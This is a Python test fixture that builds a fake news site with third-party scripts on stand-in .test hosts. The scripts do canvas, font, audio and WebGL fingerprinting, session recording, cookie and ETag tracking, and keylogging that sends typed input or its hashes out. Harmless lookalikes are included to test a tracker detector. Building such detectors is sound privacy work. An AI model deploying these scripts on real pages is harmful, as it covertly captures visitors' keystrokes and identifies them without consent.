"""Scripts of others on a page: what each does to know readers again or to watch them, and innocent twins.

Each has a host of its own, so that whatever is told can be told apart.
"""

from __future__ import annotations

import secrets
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from email.utils import formatdate
from urllib.parse import urlsplit

from flask import Flask, Response, request

from support.recorder import Recorder, Reply

_JS = {"Content-Type": "text/javascript", "Cache-Control": "no-store"}
_GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")
TOGETHER = 12  # plants on a page
Answer = Callable[[Mapping[str, str]], Reply]


@dataclass(frozen=True, kw_only=True)
class Plant:
    """A *script* at the host *name*, or another *element*; *kinds* are what has to be told of it, and nothing else.

    *answers* are those of further paths of its host. *through* is what leads to a recipient, where it is no script of that host.
    """

    name: str
    kinds: frozenset[str] = frozenset()
    script: str = ""
    element: str = ""
    answers: Mapping[str, Answer] = field(default_factory=dict)
    through: str = ""

    @property
    def host(self) -> str:
        """The host that it is loaded from."""
        return f"{self.name}.test" if "." not in self.name else self.name

    @property
    def markup(self) -> str:
        """What loads it."""
        return self.element.replace("HOST", self.host) or f'<script src="https://{self.host}/s.js"></script>'


def planted(name: str, *kinds: str, script: str = "", element: str = "", through: str = "", **answers: Answer) -> Plant:
    paths = {f"/{path}": answer for path, answer in answers.items()}
    return Plant(name=name, kinds=frozenset(kinds), script=script, element=element, answers=paths, through=through)


def serve(recorder: Recorder, plants: tuple[Plant, ...]) -> None:
    """Have *recorder* answer for the hosts of *plants*."""
    for plant in plants:
        by = urlsplit(plant.through).netloc or plant.host
        recorder.scripts[f"{by}/s.js"] = (
            f"(() => {{ const home = 'https://{plant.host}'; {plant.script.replace('HOST', plant.host)} }})();"
        )
        for path, answer in plant.answers.items():
            recorder.replies[plant.host + path] = answer


def site(plants: tuple[Plant, ...]) -> tuple[Flask, list[str]]:
    """Return a site with all *plants* on few pages, and the paths of these."""
    count = -(-len(plants) // TOGETHER)
    pages = {str(place): plants[place::count] for place in range(count)}  # those that are alike on pages of their own
    app = Flask("planted")
    app.add_url_rule("/pages/<name>", "page", lambda name: _page(pages[name]))
    app.add_url_rule("/suggest", "suggest", lambda: "[]")
    app.add_url_rule("/workers/<name>.js", "worker", _worker)
    return app, [f"/pages/{name}" for name in pages]


def _worker(name: str) -> Response:
    """Return a script of the site itself for a worker, which turns to the host that is asked for."""
    return Response(_WORKERS[name].replace("HOST", request.args["host"]), mimetype="text/javascript")


def _page(plants: tuple[Plant, ...]) -> str:
    scripts = "".join(plant.markup for plant in plants)
    return f"<!doctype html><html lang=zh-CN><meta charset=utf-8><title>新闻</title><body><p>新闻</p>{scripts}{FORM}"


def _cookie(line: str) -> Answer:
    def answer(headers: Mapping[str, str]) -> Reply:
        given = (
            {**_JS}
            if "=" in headers.get("Cookie", "")
            else {**_JS, "Set-Cookie": line.replace("RANDOM", secrets.token_hex(16))}
        )
        return 200, given, b""

    return answer


def _tagged(tag: Callable[[], str], body: Callable[[], bytes] = lambda: _GIF, control: str = "no-cache") -> Answer:
    def answer(headers: Mapping[str, str]) -> Reply:
        if known := headers.get("If-None-Match"):
            return 304, {"ETag": known, "Cache-Control": control}, b""
        return 200, {"Content-Type": "image/gif", "ETag": f'"{tag()}"', "Cache-Control": control}, body()

    return answer


def _kept(body: Callable[[], str]) -> Answer:
    return lambda headers: (
        200,
        {"Content-Type": "text/javascript", "Cache-Control": "public, max-age=31536000"},
        body().encode(),
    )


def _dated(headers: Mapping[str, str]) -> Reply:
    when = formatdate(1_000_000_000 + secrets.randbelow(400_000_000), usegmt=True)
    return 200, {"Content-Type": "image/gif", "Last-Modified": when, "Cache-Control": "no-cache"}, _GIF


def _nothing(headers: Mapping[str, str]) -> Reply:
    return 204, {}, b""


def _served_by_two() -> str:
    return secrets.choice(("5f1-60a2b3c4d5e6f", "5f1-70b3c4d5e6f70"))


_SEND = "fetch(home + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: BODY});"
_HASH = "const hash = text => [...text].reduce((sum, one) => (sum * 31 + one.charCodeAt()) | 0, 7);"
_FONTS = "const fonts = [...Array(60).keys()].map(one => 'Font ' + one);"
_SCENE = """const gl = canvas.getContext('webgl') || canvas.getContext('webgl2');
if (gl) { const info = gl.getExtension('WEBGL_debug_renderer_info');
  const card = [gl.getParameter(info ? info.UNMASKED_RENDERER_WEBGL : 0x9246), gl.getParameter(0x9245)]; LIMITS }"""
_LIMITS = """for (const one of [0x0D33, 0x8869, 0x8DFB, 0x8DFC, 0x8DFD, 0x8872, 0x8B4C, 0x8B4D, 0x84E8, 0x851C]) card.push(gl.getParameter(one));"""

PLANTED = (
    # A text in several colours on a canvas that nobody sees, as the libraries for it do.
    planted(
        "canvas-one",
        "canvas",
        script=_HASH
        + """const canvas = document.createElement('canvas'); canvas.width = 240; canvas.height = 60;
        const pen = canvas.getContext('2d'); pen.textBaseline = 'alphabetic'; pen.fillStyle = '#f60'; pen.fillRect(100, 1, 62, 20);
        pen.fillStyle = '#069'; pen.font = '11pt no-real-font-123'; pen.fillText('Cwm fjordbank gly 😃', 2, 15);
        pen.fillStyle = 'rgba(102, 204, 0, 0.2)'; pen.font = '18pt Arial'; pen.fillText('Cwm fjordbank gly 😃', 4, 45);
        window.found = hash(canvas.toDataURL());""",
    ),
    planted(
        "canvas-two",
        "canvas",
        script="""const canvas = document.createElement('canvas'); canvas.width = 300; canvas.height = 40;
        canvas.style.cssText = 'position:absolute;left:-9999px'; document.body.append(canvas);
        const pen = canvas.getContext('2d'); pen.fillStyle = 'red'; pen.fillText('mmMwWLliI0O&1 quick fox', 2, 12);
        pen.fillStyle = 'blue'; pen.fillText('mmMwWLliI0O&1 quick fox', 4, 17);
        window.pixels = pen.getImageData(0, 0, 300, 40).data.reduce((sum, one) => sum + one, 0);""",
    ),
    planted(
        "fonts-one",
        "fonts",
        script=_FONTS
        + "const pen = document.createElement('canvas').getContext('2d');"
        "window.widths = fonts.map(one => { pen.font = `72px '${one}', monospace`; return pen.measureText('mmmmmmmmmmlli').width; });",
    ),
    planted(
        "fonts-two",
        "fonts",
        script=_FONTS
        + """const box = document.createElement('div'); box.style.cssText = 'position:absolute;left:-9999px;visibility:hidden';
        document.body.append(box); window.sizes = fonts.map(one => { const span = document.createElement('span');
        span.style.fontFamily = `'${one}', serif`; span.textContent = 'mmMwWLliI0O&1'; box.append(span); return span.offsetWidth; });
        box.remove();""",
    ),
    # In a frame that is gone as soon as it is done; and in sight, for as long as nobody can see it.
    planted(
        "fonts-three",
        "fonts",
        script=_FONTS
        + """const frame = document.createElement('iframe'); frame.style.visibility = 'hidden'; document.body.append(frame);
        window.frames_ = fonts.map(one => { const span = frame.contentDocument.createElement('span');
        span.style.fontFamily = `'${one}', serif`; span.textContent = 'mmMwWLliI0O&1'; frame.contentDocument.body.append(span);
        return span.offsetWidth; }); frame.remove();""",
    ),
    planted(
        "fonts-four",
        "fonts",
        script=_FONTS
        + """const span = document.createElement('span'); span.textContent = 'mmmmmmmmmmlli'; window.spans = fonts.map(one => {
        span.style.fontFamily = `'${one}', serif`; document.body.append(span); const wide = span.offsetWidth; span.remove();
        return wide; });""",
    ),
    planted(
        "audio-one",
        "audio",
        script="""const sound = new OfflineAudioContext(1, 5000, 44100), tone = sound.createOscillator();
        const press = sound.createDynamicsCompressor(); tone.type = 'triangle'; tone.frequency.value = 10000;
        tone.connect(press); press.connect(sound.destination); tone.start(0);
        sound.oncomplete = event => { window.sum = event.renderedBuffer.getChannelData(0).slice(4500)
          .reduce((sum, one) => sum + Math.abs(one), 0); }; sound.startRendering();""",
    ),
    planted(
        "audio-two",
        "audio",
        script="""const sound = new OfflineAudioContext(1, 4410, 44100);
        const tone = new OscillatorNode(sound, {type: 'square', frequency: 1000}); tone.connect(sound.destination); tone.start();
        sound.startRendering().then(made => { const part = new Float32Array(100); made.copyFromChannel(part, 0); window.part = part; });""",
    ),
    planted(
        "webgl-one", "webgl", script="const canvas = document.createElement('canvas');" + _SCENE.replace("LIMITS", _LIMITS)
    ),
    planted(
        "webgl-two",
        "webgl",
        script="const canvas = new OffscreenCanvas(16, 16);"
        + _SCENE.replace(
            "LIMITS",
            "card.push(gl.getSupportedExtensions()); for (const kind of [0x8B30, 0x8B31]) for (const size of "
            "[0x8DF0, 0x8DF1, 0x8DF2]) card.push(gl.getShaderPrecisionFormat(kind, size));",
        ),
    ),
    # Every element once, then what changes, and where the mouse goes.
    planted(
        "recording-one",
        "recording",
        script="""const copy = node => ({tagName: node.localName, childNodes: [...node.children].slice(0, 20).map(copy)});
        const seen = []; const send = () => { if (seen.length) { const body = JSON.stringify(seen.splice(0)); SEND } };
        new MutationObserver(list => seen.push({changes: list.length})).observe(document, {subtree: true, childList: true, characterData: true});
        for (const type of ['mousemove', 'scroll', 'click']) addEventListener(type, event => seen.push({type, x: event.clientX, y: event.clientY}));
        addEventListener('load', () => seen.push(copy(document.documentElement))); setInterval(send, 100);""".replace(
            "SEND", _SEND.replace("BODY", "body")
        ),
        c=_nothing,
    ),
    # The same, compressed, so that nobody else can read it.
    planted(
        "recording-two",
        "recording",
        script="""const moves = []; document.addEventListener('mousemove', event => moves.push([event.pageX, event.pageY, Date.now()]));
        document.addEventListener('scroll', () => moves.push(['scroll', scrollY]));
        new MutationObserver(() => 0).observe(document.documentElement, {subtree: true, childList: true});
        setInterval(async () => { if (moves.length < 4) return; const text = JSON.stringify(moves.splice(0));
          const packed = new Response(new Blob([text]).stream().pipeThrough(new CompressionStream('gzip')));
          navigator.sendBeacon(home + '/c', await packed.blob()); }, 100);""",
        c=_nothing,
    ),
    planted(
        "keys-one",
        "keys",
        "fields",
        script="document.addEventListener('input', event => { "
        + _SEND.replace("BODY", "JSON.stringify({draft: event.target.value})")
        + " });",
        c=_nothing,
    ),
    # One key after the other.
    planted(
        "keys-two",
        "keys",
        script="""document.addEventListener('keydown', event => navigator.sendBeacon(home + '/c',
        JSON.stringify({event: 'keydown', key: event.key})));""",
        c=_nothing,
    ),
    # Only a hash of it, which is a name all the same.
    planted(
        "keys-three",
        "keys",
        "fields",
        script="""document.addEventListener('focusout', async event => { const text = new TextEncoder().encode(event.target.value);
        if (!text.length || !crypto.subtle) return; const made = new Uint8Array(await crypto.subtle.digest('SHA-256', text));
        new Image().src = home + '/c?em=' + [...made].map(one => one.toString(16).padStart(2, '0')).join(''); });""",
        c=_nothing,
    ),
    planted(
        "fields-one",
        "fields",
        script="setInterval(() => { window.read = [...document.querySelectorAll('input')].map(one => one.value.length); }, 100);",
    ),
    planted("cache-one", "cache", element='<img src="https://HOST/p.gif" alt="">', **{"p.gif": _tagged(lambda: secrets.token_hex(8))}),
    planted("cache-two", "cache", element='<script src="https://HOST/id.js"></script>', **{"id.js": _kept(lambda: f"window.id='{secrets.token_hex(16)}'")}),
    planted("cache-three", "cache", element='<img src="https://HOST/p.gif" alt="">', **{"p.gif": _dated}),
    planted(
        "cookie-one",
        "cookie",
        element='<script src="https://HOST/c.js"></script>',
        **{"c.js": _cookie("uid=RANDOM; Path=/; Max-Age=31536000; SameSite=None; Secure")},
    ),
    planted(
        "cookie-two",
        "cookie",
        element='<img src="https://HOST/c.gif" alt="">',
        **{"c.gif": _cookie("guest=RANDOM; Path=/; Expires=Wed, 01 Jan 2036 00:00:00 GMT; SameSite=None; Secure")},
    ),
    planted(
        "identifier-one",
        "identifier",
        script="""let known = localStorage.visitor; if (!known) { known = crypto.randomUUID(); localStorage.setItem('visitor', known); }
        document.head.append(Object.assign(document.createElement('script'), {src: home + '/more.js?cid=' + known}));""",
    ),
    planted(
        "identifier-two",
        "identifier",
        script="""const known = /_mark=([^;]+)/.exec(document.cookie)?.[1] || Array.from(crypto.getRandomValues(new Uint8Array(12)),
          one => one.toString(16).padStart(2, '0')).join('');
        document.cookie = `_mark=${known}; max-age=31536000; path=/`;
        fetch(home + '/data.json', {method: 'POST', mode: 'no-cors', body: JSON.stringify({known})});""",
    ),
    planted(
        "beacon-one",
        "beacon",
        script="navigator.sendBeacon(home + '/c', JSON.stringify({page: location.pathname, title: document.title}));",
        c=_nothing,
    ),
    planted(
        "beacon-two",
        "beacon",
        script="new Image().src = home + '/i.gif?page=' + encodeURIComponent(location.href);",
    ),
)  # fmt: skip

INNOCENT = (
    # A name across the page, so that nobody passes pictures of it on.
    planted(
        "watermark",
        script="""const canvas = document.createElement('canvas'); canvas.width = 300; canvas.height = 150;
        const pen = canvas.getContext('2d'); pen.rotate(-0.3); pen.fillStyle = 'rgba(0,0,0,.05)'; pen.fillText('江南新闻 internal 2026-11-30', 10, 100);
        pen.fillStyle = 'rgba(0,0,0,.04)'; pen.fillText('江南新闻 internal 2026-11-30', 11, 101);
        document.body.style.backgroundImage = `url(${canvas.toDataURL()})`;""",
    ),
    planted(
        "thumbnail",
        script="""const canvas = document.createElement('canvas'); canvas.width = 200; canvas.height = 100;
        const pen = canvas.getContext('2d'); pen.fillStyle = 'red'; pen.fillText('Nothing to see here', 9, 9); pen.fillStyle = 'blue';
        pen.fillText('Nothing to see here', 9, 40); const picture = new Image(); picture.src = canvas.toDataURL(); document.body.append(picture);""",
    ),
    # Which signs a system can draw.
    planted(
        "emoji",
        script="""const canvas = document.createElement('canvas'); canvas.width = 300; canvas.height = 150;
        const pen = canvas.getContext('2d'); pen.font = '600 32px Arial'; pen.fillText('🏴󠁧󠁢', 0, 0);
        const one = canvas.toDataURL(); pen.clearRect(0, 0, 300, 150); pen.fillText('🏴', 0, 0); window.emoji = one === canvas.toDataURL();""",
    ),
    # A text taken apart into dots that fly about.
    planted(
        "particles",
        script="""const canvas = document.createElement('canvas'); canvas.width = 400; canvas.height = 90;
        const pen = canvas.getContext('2d'); pen.fillStyle = '#fff'; pen.fillText('Breaking news today', 0, 40);
        window.dots = pen.getImageData(0, 0, 400, 90).data.length;""",
    ),
    planted(
        "chart",
        script="""const canvas = document.createElement('canvas'); canvas.width = 400; canvas.height = 200; document.body.append(canvas);
        const pen = canvas.getContext('2d'); ['red', 'green', 'blue'].forEach((colour, place) => { pen.fillStyle = colour;
        pen.fillText(`Quarter ${place}: revenue`, 10, 20 + place * 20); }); window.saved = canvas.toDataURL();""",
    ),
    planted(
        "shrink",
        script="""const picture = document.createElement('canvas'); picture.width = picture.height = 64;
        const canvas = document.createElement('canvas'); canvas.width = canvas.height = 32; const pen = canvas.getContext('2d');
        pen.drawImage(picture, 0, 0, 32, 32); window.small = canvas.toDataURL('image/jpeg');""",
    ),
    # Waits until a font is there.
    planted(
        "font-loader",
        script="""for (const one of ['News Sans', 'News Serif', 'serif', 'sans-serif', 'monospace', 'News Mono']) {
        const span = document.createElement('span'); span.style.cssText = 'position:absolute;left:-999px'; span.style.fontFamily = one;
        span.textContent = 'BESbswy'; document.body.append(span); window.wide = span.offsetWidth; span.remove(); }""",
    ),
    planted(
        "font-menu",
        script=_FONTS
        + """const menu = document.createElement('div'); document.body.append(menu); fonts.forEach(one => {
        const item = document.createElement('span'); item.style.fontFamily = `'${one}'`; item.textContent = '江南 Aa'; menu.append(item);
        item.dataset.width = item.offsetWidth; });""",
    ),
    # A sound of a game, computed once and played.
    planted(
        "bell",
        script="""const sound = new OfflineAudioContext(1, 2205, 22050), tone = sound.createOscillator(); tone.connect(sound.destination);
        tone.start(); sound.startRendering().then(made => { let peak = 0; for (const one of made.getChannelData(0)) peak = Math.max(peak, one);
        const player = new AudioContext(), source = player.createBufferSource(); source.buffer = made; source.connect(player.destination); });""",
    ),
    planted(
        "waveform",
        script="""const sound = new OfflineAudioContext(1, 3000, 22050), source = sound.createBufferSource();
        source.buffer = sound.createBuffer(1, 3000, 22050); source.connect(sound.destination); source.start();
        sound.startRendering().then(made => { window.wave = made.getChannelData(0)[10]; });""",
    ),
    # A globe that turns on the page: it may ask what the card can do.
    planted(
        "globe",
        script="const canvas = document.createElement('canvas'); document.body.append(canvas);"
        + _SCENE.replace("LIMITS", _LIMITS),
    ),
    planted(
        "three-dimensions",
        script="""const canvas = document.createElement('canvas'), gl = canvas.getContext('webgl');
        window.can = Boolean(gl) && [gl.getParameter(0x0D33), gl.getParameter(0x9246), gl.getSupportedExtensions()];""",
    ),
    planted(
        "clicks",
        "beacon",
        script="""document.addEventListener('click', () => 0); addEventListener('scroll', () => 0);
        navigator.sendBeacon(home + '/c', JSON.stringify({x: 613, y: 217, page: location.pathname}));""",
        c=_nothing,
    ),
    planted(
        "lazy",
        script="""addEventListener('scroll', () => 0); addEventListener('mousemove', () => 0);
        new MutationObserver(() => 0).observe(document.body, {subtree: true, childList: true});
        fetch(home + '/list.json?items=1,2,3').then(answer => answer.text());""",
    ),
    planted(
        "counts-letters",
        "beacon",
        script="""document.addEventListener('input', event => navigator.sendBeacon(home + '/c', JSON.stringify({field: event.target.name})));""",
        c=_nothing,
    ),
    # A library of others that the site's own script calls.
    planted("library", script="window.val = field => field.value;"),
    # One that checks what is typed, from where many sites have theirs.
    planted("cdn.jsdelivr.net", script="setInterval(() => { for (const one of document.querySelectorAll('input')) one.value.length; }, 100);"),
    planted("same-tag", element='<img src="https://HOST/p.gif" alt="">', **{"p.gif": _tagged(lambda: "5f1a60a2b3c4d5e6")}),
    planted("two-servers", element='<img src="https://HOST/p.gif" alt="">', **{"p.gif": _tagged(_served_by_two)}),
    planted("news", element='<script src="https://HOST/list.js"></script>', **{"list.js": _tagged(lambda: secrets.token_hex(8), lambda: secrets.token_hex(9).join(("/*", "*/")).encode())}),
    planted("release", element='<script src="https://HOST/app.js?v=8f14e45fceea167a"></script>', **{"app.js": _kept(lambda: "window.build = '8f14e45fceea167a5a36dedd4bea2543'")}),
    planted(
        "language",
        element='<script src="https://HOST/c.js"></script>',
        **{"c.js": _cookie("lang=zh-CN; Path=/; Max-Age=31536000; SameSite=None; Secure")},
    ),
    planted(
        "balancer",
        element='<script src="https://HOST/c.js"></script>',
        **{"c.js": _cookie("AWSALB=RANDOM; Path=/; Max-Age=604800; SameSite=None; Secure")},
    ),
    planted(
        "short-visit",
        element='<script src="https://HOST/c.js"></script>',
        **{"c.js": _cookie("sid=RANDOM; Path=/; SameSite=None; Secure")},
    ),
    planted("buster", script="fetch(home + '/list.json?_=' + crypto.randomUUID()).then(answer => answer.text());"),
    planted("timed", script="fetch(home + '/list.json?t=' + Date.now()).then(answer => answer.text());"),
    planted("spacer", element='<img src="https://HOST/spacer.gif?v=3" alt="" width="1">'),
    planted("icons", element='<img src="https://HOST/social/icon-tracker.svg" alt="">'),
)  # fmt: skip
# What runs in a worker, and in twins that turn to nobody.
_WORKERS = {
    "fetch": "fetch('https://HOST/x', {method: 'POST', mode: 'no-cors', body: 'seen'})",
    "later": "setTimeout(() => fetch('https://HOST/x', {mode: 'no-cors'}), 300)",
    "import": "importScripts('https://HOST/i.js')",
    "socket": "new WebSocket('wss://HOST/s')",
    "outer": "new Worker('/workers/fetch.js?host=HOST')",
    "installed": "addEventListener('install', event => event.waitUntil(fetch('https://HOST/x', {mode: 'no-cors'})))",
    "idle": "addEventListener('message', () => fetch('https://HOST/x')); let sum = 0; for (let i = 0; i < 1e5; i++) sum += i;",
    "waiting": "addEventListener('connect', ({ports: [port]}) => { port.onmessage = () => fetch('https://HOST/x'); });",
}


def _channel(name: str, script: str, through: str = "page") -> Plant:
    """Return a plant whose host is turned to by *script* of the page, or by a worker's at *through*."""
    return planted(name, element=f"<script>{{ {script} }}</script>", through=through)


def _others(name: str, script: str) -> Plant:
    """Return the same where *script* is one of others."""
    source = f"https://by-{name}.test/s.js"
    return planted(name, element=f"<script src={source}></script>", script=script, through=source)


_BLOB = "URL.createObjectURL(new Blob([`CODE`], {type: 'text/javascript'}))"


def _blob(code: str) -> str:
    return _BLOB.replace("CODE", code)


_PEER = "const peer = new RTCPeerConnection({iceServers: [{urls: ['stun:HOST:3478']}]});"
#: Ways to others beside what a page loads: each twice, by the site's own script and by one of others.
CHANNELS: Mapping[str, tuple[Plant, ...]] = {
    "worker": (
        _channel("worker-one", "new Worker('/workers/fetch.js?host=HOST')", "/workers/fetch.js"),
        _channel("worker-two", "new Worker('/workers/later.js?host=HOST')", "/workers/later.js"),
        _channel("worker-three", "new Worker('/workers/import.js?host=HOST')", "/workers/import.js"),
        _channel("worker-four", "new Worker('/workers/socket.js?host=HOST')", "/workers/socket.js"),
        _others("worker-five", f"new Worker({_blob(_WORKERS['fetch'])})"),
        _channel("worker-six", "new Worker('/workers/outer.js?host=HOST')", "/workers/outer.js"),
    ),
    "shared worker": (
        _channel("shared-one", "new SharedWorker('/workers/fetch.js?host=HOST')", "/workers/fetch.js"),
        _channel("shared-two", "new SharedWorker('/workers/socket.js?host=HOST')", "/workers/socket.js"),
        _others("shared-three", f"new SharedWorker({_blob(_WORKERS['later'])})"),
    ),
    "service worker": (
        _channel(
            "service-one",
            "navigator.serviceWorker.register('/workers/installed.js?host=HOST', {scope: '/workers/one'})",
            "/workers/installed.js",
        ),
        _channel(
            "service-two",
            "navigator.serviceWorker.register('/workers/import.js?host=HOST', {scope: '/workers/two'})",
            "/workers/import.js",
        ),
    ),
    "worklet": (
        _channel("worklet-one", "new AudioContext().audioWorklet.addModule('https://HOST/m.js')"),
        _others("worklet-two", "CSS.paintWorklet.addModule('https://HOST/m.js')"),
    ),
    "prefetch": (
        planted("prefetch-one", element="<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"https://HOST/p\"], \"eagerness\": \"immediate\"}]}</script>", through="page"),
        _others("prefetch-two", "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: 'https://HOST/p.js'}))"),
        _channel("prefetch-three", "document.head.append(Object.assign(document.createElement('link'), {rel: 'preconnect', href: 'https://HOST'}))"),
    ),
    "leaving": (
        _channel("leaving-one", "addEventListener('pagehide', () => navigator.sendBeacon('https://HOST/b', 'left'))"),
        _others("leaving-two", "document.addEventListener('visibilitychange', () => { if (document.hidden) navigator.sendBeacon('https://HOST/b', 'left'); })"),
        _others("leaving-three", "addEventListener('beforeunload', () => fetch('https://HOST/b', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'left'}))"),
        _channel("leaving-four", "fetchLater('https://HOST/b', {method: 'POST', mode: 'no-cors', body: 'left'})"),
    ),
    "socket": (
        _channel("socket-one", "new WebSocket('wss://HOST/s')"),
        _others("socket-two", "new WebTransport('https://HOST/t').ready.catch(() => 0)"),
        _others("socket-three", "new EventSource('https://HOST/e')"),
    ),
    "call": (
        _channel("call-one", _PEER + "peer.createDataChannel(''); peer.createOffer().then(offer => peer.setLocalDescription(offer));"),
        _others(
            "call-two",
            "const peer = new RTCPeerConnection(); peer.setConfiguration({iceServers: [{urls: 'stun:HOST'}]});"
            "peer.createDataChannel(''); peer.setLocalDescription();",
        ),
    ),
}  # fmt: skip
#: Twins that have the same address at hand and turn to nobody.
IDLE = (
    _channel("idle-worker", "new Worker('/workers/idle.js?host=HOST')"),
    _channel("idle-shared", "new SharedWorker('/workers/waiting.js?host=HOST')"),
    _channel("idle-service", "navigator.serviceWorker.register('/workers/idle.js?host=HOST', {scope: '/workers/idle'})"),
    _channel("idle-worklet", "if (!window.AudioWorklet) new AudioContext().audioWorklet.addModule('https://HOST/m.js')"),
    _channel("idle-hint", "Object.assign(document.createElement('link'), {rel: 'preconnect', href: 'https://HOST'})"),
    _channel("idle-leaving", "addEventListener('pagehide', event => { if (event.oldAddress) navigator.sendBeacon('https://HOST/b'); })"),
    _channel("idle-socket", "addEventListener('offline', () => new WebSocket('wss://HOST/s'))"),
    _channel("idle-call", _PEER + "peer.close();"),
)  # fmt: skip
KINDS = (
    "canvas", "fonts", "audio", "webgl", "recording", "keys", "fields", "cache", "cookie", "identifier", "beacon",
)  # fmt: skip
# Fields that a reader types into; the site's own suggestions, and its own script that reads through a library of others.
FORM = """<form onsubmit="return false"><input name=q><input name=mail type=email></form><script>
document.querySelector("[name=q]").addEventListener("input", event => fetch("/suggest?q=" + encodeURIComponent(event.target.value)));
addEventListener("load", () => setInterval(() => val(document.querySelector("[name=mail]")), 100));
</script>"""
